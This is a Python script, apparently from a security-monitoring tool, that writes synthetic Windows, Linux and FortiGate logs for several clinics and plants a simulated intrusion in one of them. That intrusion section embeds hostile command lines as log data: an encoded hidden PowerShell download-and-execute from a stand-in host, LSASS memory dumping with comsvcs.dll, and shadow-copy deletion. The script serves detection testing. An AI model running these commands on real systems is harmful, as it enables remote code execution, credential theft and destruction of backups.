"""Generate the demo's event stream in the real log formats the readers take.

Days of ordinary activity in every clinic of the group — Windows logons and processes (Winlogbeat 7
NDJSON, gzipped), Linux servers' auth.log (RFC 3164), FortiGate SSL-VPN and traffic logs (key=value) —
then an intrusion from outside on one clinic: VPN password spraying from an external address, a
successful VPN login, hidden PowerShell with an encoded command, LSASS dumping attempts, shadow-copy
deletion. Deterministic for a given seed and start time.
"""

from __future__ import annotations

import base64
import gzip
import random
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import orjson

from rempart.domain.inventory import AssetRole, Establishment, Group

PARIS = ZoneInfo("Europe/Paris")
# the servers whose auth.log the demo writes (and benchmarks/live.py attacks over SSH)
SERVER_ROLES = (AssetRole.HIS_SERVER, AssetRole.FILE_SERVER, AssetRole.MAIL_SERVER, AssetRole.WEB_SERVER,
                AssetRole.BACKUP_SERVER)
DOMAIN = "horizon.local"
FIRST = [
    "camille",
    "lea",
    "manon",
    "chloe",
    "ines",
    "lucas",
    "hugo",
    "louis",
    "jules",
    "nathan",
    "sarah",
    "emma",
    "paul",
    "marie",
    "julie",
    "thomas",
    "antoine",
    "claire",
    "sophie",
    "nicolas",
]
LAST = [
    "martin",
    "bernard",
    "dubois",
    "thomas",
    "robert",
    "richard",
    "petit",
    "durand",
    "leroy",
    "moreau",
    "simon",
    "laurent",
    "lefebvre",
    "michel",
    "garcia",
    "david",
    "bertrand",
    "roux",
    "vincent",
    "fournier",
]
# French ISP address blocks stand in for staff working from home
HOME_NETS = ["90.12.", "86.245.", "92.184.", "78.193.", "109.7."]
WEB = ["151.101.1.", "172.217.20.", "104.16.249.", "23.57.0."]
BENIGN = [
    (r"C:\Windows\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", '"chrome.exe" --type=renderer'),
    (r"C:\Program Files\HorizonDPI\dpi-client.exe", '"dpi-client.exe" /server:dpi01'),
    (r"C:\Windows\System32\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
    (r"C:\Windows\System32\notepad.exe", "notepad.exe C:\\Users\\Public\\planning.txt"),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -File C:\\Scripts\\inventaire.ps1",
    ),
    (r"C:\Windows\System32\cmd.exe", "cmd.exe /c ipconfig /all"),
]


def _parent(image: str) -> str:
    # services are started by the service control manager, the rest from the user's shell: a wrong parent
    # is exactly what SigmaHQ's "uncommon parent" rules catch, and ordinary activity must not raise them
    if image.endswith("svchost.exe"):
        return r"C:\Windows\System32\services.exe"
    return r"C:\Windows\explorer.exe"


@dataclass
class Intrusion:
    """What was planted: the tests and the later stages compare against it."""

    establishment: str
    attacker_ip: str
    sprayed_users: list[str]
    compromised_user: str
    hosts: list[str]
    start: datetime
    end: datetime
    steps: list[tuple[datetime, str]] = field(default_factory=list)


@dataclass
class GeneratedLogs:
    files: list[Path]
    events: int
    intrusion: Intrusion
    # every line with its time and file, in time order: what the demo ships live to `rempart serve`
    timed: list[tuple[datetime, Path, str]] = field(default_factory=list)


class _Writer:
    """Collects the lines of each log file, then writes them sorted by time."""

    def __init__(self) -> None:
        self.lines: dict[Path, list[tuple[datetime, str]]] = {}
        self.count = 0

    def add(self, path: Path, when: datetime, line: str) -> None:
        self.lines.setdefault(path, []).append((when, line))
        self.count += 1

    def flush(self) -> list[Path]:
        for path, items in self.lines.items():
            path.parent.mkdir(parents=True, exist_ok=True)
            text = "".join(line + "\n" for _, line in sorted(items, key=lambda item: item[0]))
            if path.suffix == ".gz":
                with gzip.open(path, "wt", encoding="utf-8") as fh:
                    fh.write(text)
            else:
                path.write_text(text, encoding="utf-8")
        return sorted(self.lines)


def _users(rng: random.Random, n: int) -> list[str]:
    return sorted({f"{rng.choice(FIRST)[0]}.{rng.choice(LAST)}" for _ in range(n * 2)})[:n]


def winlog_line(
    when: datetime, host: str, channel: str, event_id: int, record: int, data: dict[str, str]
) -> str:
    """One Windows event as Winlogbeat 7 writes it (JSON line)."""
    provider = "Microsoft-Windows-Sysmon" if "Sysmon" in channel else "Microsoft-Windows-Security-Auditing"
    return orjson.dumps(
        {
            "@timestamp": when.isoformat().replace("+00:00", "Z"),
            "host": {"name": host},
            "event": {"code": str(event_id), "provider": provider},
            "winlog": {
                "channel": channel,
                "event_id": event_id,
                "computer_name": f"{host}.{DOMAIN}",
                "provider_name": provider,
                "record_id": record,
                "event_data": data,
            },
        }
    ).decode()


def _fortigate(when: datetime, devname: str, fields: dict[str, str | int]) -> str:
    local = when.astimezone(PARIS)
    head = {
        "date": local.strftime("%Y-%m-%d"),
        "time": local.strftime("%H:%M:%S"),
        "devname": devname,
        "devid": "FG100FTK2290" + devname[-2:].upper(),
        "eventtime": int(when.timestamp() * 1e9),
        "tz": local.strftime("%z"),
    }
    parts = []
    for key, value in {**head, **fields}.items():
        parts.append(f"{key}={value}" if isinstance(value, int) else f'{key}="{value}"')
    return " ".join(parts)


def _syslog(when: datetime, host: str, program: str, pid: int, message: str) -> str:
    # as rsyslog writes it on a server set to French time: the local clock, with no zone
    return f"{when.astimezone(PARIS).strftime('%b %e %H:%M:%S')} {host} {program}[{pid}]: {message}"


class _Clinic:
    def __init__(self, est: Establishment, out: Path, rng: random.Random, writer: _Writer) -> None:
        self.est = est
        self.rng = rng
        self.w = writer
        self.out = out / est.id
        self.users = _users(rng, 14)
        self.record = 1000
        self.workstations = [a.short_name for a in est.assets_with_role(AssetRole.WORKSTATION)]
        self.servers = [
            a.short_name
            for a in est.assets_with_role(*SERVER_ROLES)
        ]
        self.dc = est.assets_with_role(AssetRole.DOMAIN_CONTROLLER)[0].short_name
        self.vpn = est.assets_with_role(AssetRole.VPN_GATEWAY)[0].short_name
        self.fw = est.assets_with_role(AssetRole.FIREWALL)[0].short_name
        self.ips = {a.short_name: a.ips[0] for a in est.assets if a.ips}

    def win(self, when: datetime, host: str, channel: str, event_id: int, data: dict[str, str]) -> None:
        self.record += 1
        day = when.strftime("%Y%m%d")
        self.w.add(
            self.out / f"windows-{day}.ndjson.gz",
            when,
            winlog_line(when, host, channel, event_id, self.record, data),
        )

    def vpn_log(self, when: datetime, fields: dict[str, str | int]) -> None:
        self.w.add(self.out / "fortigate.log", when, _fortigate(when, self.vpn, fields))

    def fw_log(self, when: datetime, fields: dict[str, str | int]) -> None:
        self.w.add(self.out / "fortigate.log", when, _fortigate(when, self.fw, fields))

    def auth(self, when: datetime, host: str, program: str, message: str) -> None:
        self.w.add(
            self.out / "auth.log", when, _syslog(when, host, program, self.rng.randint(900, 32000), message)
        )

    def ordinary_hour(self, hour: datetime) -> None:
        working = 7 <= hour.astimezone(PARIS).hour < 20
        rng = self.rng
        for _ in range(rng.randint(8, 14) if working else rng.randint(1, 3)):
            when = hour + timedelta(seconds=rng.randint(0, 3599))
            host = rng.choice(self.workstations)
            user = rng.choice(self.users)
            self.win(
                when,
                self.dc,
                "Security",
                4624,
                {
                    "TargetUserName": user,
                    "TargetDomainName": "HORIZON",
                    "LogonType": "3",
                    "IpAddress": self.ips[host],
                    "WorkstationName": host.upper(),
                    "AuthenticationPackageName": "Kerberos",
                },
            )
            image, cmd = rng.choice(BENIGN)
            self.win(
                when + timedelta(seconds=2),
                host,
                "Microsoft-Windows-Sysmon/Operational",
                1,
                {
                    "Image": image,
                    "CommandLine": cmd,
                    "User": f"HORIZON\\{user}",
                    "ParentImage": _parent(image),
                    "ProcessId": str(rng.randint(1000, 9000)),
                    "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
                },
            )
        if rng.random() < 0.5:
            when = hour + timedelta(seconds=rng.randint(0, 3599))
            host = rng.choice([*self.workstations, self.dc])
            self.win(
                when,
                host,
                "Microsoft-Windows-Sysmon/Operational",
                10,
                {
                    "SourceImage": r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
                    "TargetImage": r"C:\Windows\system32\lsass.exe",
                    "GrantedAccess": "0x1410",
                },
            )
        if working and rng.random() < 0.6:
            when = hour + timedelta(seconds=rng.randint(0, 3599))
            user = rng.choice(self.users)
            src = rng.choice(HOME_NETS) + f"{rng.randint(1, 254)}.{rng.randint(1, 254)}"
            if rng.random() < 0.2:
                self.vpn_log(
                    when - timedelta(seconds=20),
                    {
                        "logid": "0101039426",
                        "type": "event",
                        "subtype": "vpn",
                        "level": "alert",
                        "logdesc": "SSL VPN login fail",
                        "action": "ssl-login-fail",
                        "tunneltype": "ssl-web",
                        "remip": src,
                        "user": user,
                        "reason": "sslvpn_login_permission_denied",
                    },
                )
            self.vpn_log(
                when,
                {
                    "logid": "0101039424",
                    "type": "event",
                    "subtype": "vpn",
                    "level": "information",
                    "logdesc": "SSL VPN tunnel up",
                    "action": "tunnel-up",
                    "tunneltype": "ssl-tunnel",
                    "remip": src,
                    "user": user,
                    "tunnelip": f"10.212.134.{rng.randint(10, 200)}",
                },
            )
        for _ in range(rng.randint(10, 20) if working else rng.randint(2, 5)):
            when = hour + timedelta(seconds=rng.randint(0, 3599))
            host = rng.choice(self.workstations + self.servers)
            self.fw_log(
                when,
                {
                    "logid": "0000000013",
                    "type": "traffic",
                    "subtype": "forward",
                    "level": "notice",
                    "srcip": self.ips[host],
                    "srcport": rng.randint(49152, 65000),
                    "srcintf": "internal",
                    "dstip": rng.choice(WEB) + str(rng.randint(1, 254)),
                    "dstport": 443,
                    "dstintf": "wan1",
                    "proto": 6,
                    "action": "close",
                    "service": "HTTPS",
                    "duration": rng.randint(1, 120),
                    "sentbyte": rng.randint(800, 60_000),
                    "rcvdbyte": rng.randint(5_000, 2_000_000),
                },
            )
        if rng.random() < 0.4:
            when = hour + timedelta(seconds=rng.randint(0, 3599))
            host = rng.choice(self.servers)
            self.auth(
                when,
                host,
                "sshd",
                f"Accepted publickey for exploit from 10.250.0.{rng.randint(10, 20)} port "
                f"{rng.randint(40000, 60000)} ssh2: ED25519 SHA256:k3Jm0Xz",
            )
            self.auth(
                when + timedelta(seconds=30),
                host,
                "sudo",
                "   exploit : TTY=pts/0 ; PWD=/home/exploit ; USER=root ; COMMAND=/usr/bin/apt-get update",
            )


def generate(
    group: Group,
    out: Path,
    attacked: str,
    attacker_ip: str,
    start: datetime,
    days: int = 3,
    seed: int = 20261128,
) -> GeneratedLogs:
    """Write the logs of every clinic under ``out``; the intrusion ends 20 minutes before start + days."""
    rng = random.Random(seed)
    writer = _Writer()
    clinics = {e.id: _Clinic(e, out, rng, writer) for e in group.establishments}
    if attacked not in clinics:
        raise KeyError(attacked)
    end = start + timedelta(days=days)
    hour = start
    while hour < end:
        for clinic in clinics.values():
            clinic.ordinary_hour(hour)
        hour += timedelta(hours=1)
    intrusion = _intrude(clinics[attacked], attacker_ip, end - timedelta(minutes=75), rng)
    timed = sorted(((when, path, line) for path, items in writer.lines.items() for when, line in items),
                   key=lambda item: item[0])
    return GeneratedLogs(files=writer.flush(), events=writer.count, intrusion=intrusion, timed=timed)


def _intrude(c: _Clinic, attacker_ip: str, t: datetime, rng: random.Random) -> Intrusion:
    sprayed = sorted(set([*c.users[:10], "admin", "administrateur", "scanner"]))
    steps: list[tuple[datetime, str]] = []
    for i, user in enumerate(sprayed * 2):
        c.vpn_log(
            t + timedelta(seconds=20 * i),
            {
                "logid": "0101039426",
                "type": "event",
                "subtype": "vpn",
                "level": "alert",
                "logdesc": "SSL VPN login fail",
                "action": "ssl-login-fail",
                "tunneltype": "ssl-web",
                "remip": attacker_ip,
                "user": user,
                "reason": "sslvpn_login_permission_denied",
            },
        )
    steps.append((t, f"pulvérisation de mots de passe VPN depuis {attacker_ip} ({len(sprayed)} comptes)"))
    victim = c.users[3]
    t_login = t + timedelta(seconds=20 * len(sprayed) * 2 + 60)
    c.vpn_log(
        t_login,
        {
            "logid": "0101039424",
            "type": "event",
            "subtype": "vpn",
            "level": "information",
            "logdesc": "SSL VPN tunnel up",
            "action": "tunnel-up",
            "tunneltype": "ssl-tunnel",
            "remip": attacker_ip,
            "user": victim,
            "tunnelip": "10.212.134.66",
        },
    )
    steps.append((t_login, f"connexion VPN réussie avec le compte {victim}"))
    ws = c.workstations[1]
    c.win(
        t_login + timedelta(minutes=2),
        c.dc,
        "Security",
        4624,
        {
            "TargetUserName": victim,
            "TargetDomainName": "HORIZON",
            "LogonType": "10",
            "IpAddress": "10.212.134.66",
            "WorkstationName": ws.upper(),
            "AuthenticationPackageName": "Negotiate",
        },
    )
    payload = base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')".encode("utf-16-le")
    ).decode()
    t_ps = t_login + timedelta(minutes=4)
    c.win(
        t_ps,
        ws,
        "Microsoft-Windows-Sysmon/Operational",
        1,
        {
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "CommandLine": f"powershell.exe -nop -w hidden -enc {payload}",
            "User": f"HORIZON\\{victim}",
            "ParentImage": r"C:\Windows\System32\cmd.exe",
            "OriginalFileName": "PowerShell.EXE",
            "ProcessId": "6120",
        },
    )
    steps.append((t_ps, f"PowerShell caché avec commande encodée sur {ws}"))
    t_dump = t_ps + timedelta(minutes=6)
    for k, host in enumerate([ws, c.dc]):
        c.win(
            t_dump + timedelta(minutes=k),
            host,
            "Microsoft-Windows-Sysmon/Operational",
            10,
            {
                "SourceImage": r"C:\Users\Public\svc.exe",
                "TargetImage": r"C:\Windows\system32\lsass.exe",
                "GrantedAccess": "0x1410",
                "SourceUser": f"HORIZON\\{victim}",
            },
        )
    c.win(
        t_dump + timedelta(minutes=3),
        c.dc,
        "Microsoft-Windows-Sysmon/Operational",
        1,
        {
            "Image": r"C:\Windows\System32\rundll32.exe",
            "CommandLine": r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 "
            r"C:\Users\Public\l.dmp full",
            "User": f"HORIZON\\{victim}",
            "ParentImage": r"C:\Windows\System32\cmd.exe",
            "OriginalFileName": "RUNDLL32.EXE",
            "ProcessId": "7344",
        },
    )
    steps.append((t_dump, f"tentatives de vol d'identifiants dans LSASS sur {ws} et {c.dc}"))
    fs = next(h for h in c.servers if "-fs" in h)
    t_vss = t_dump + timedelta(minutes=12)
    c.win(
        t_vss,
        fs,
        "Microsoft-Windows-Sysmon/Operational",
        1,
        {
            "Image": r"C:\Windows\System32\vssadmin.exe",
            "CommandLine": "vssadmin.exe delete shadows /all /quiet",
            "User": f"HORIZON\\{victim}",
            "ParentImage": r"C:\Windows\System32\cmd.exe",
            "OriginalFileName": "VSSADMIN.EXE",
            "ProcessId": "8012",
        },
    )
    steps.append((t_vss, f"suppression des clichés instantanés (shadow copies) sur {fs}"))
    del rng
    return Intrusion(
        establishment=c.est.id,
        attacker_ip=attacker_ip,
        sprayed_users=sprayed,
        compromised_user=victim,
        hosts=sorted({ws, c.dc, fs}),
        start=t,
        end=t_vss,
        steps=steps,
    )


def now_utc() -> datetime:
    return datetime.now(UTC).replace(microsecond=0)
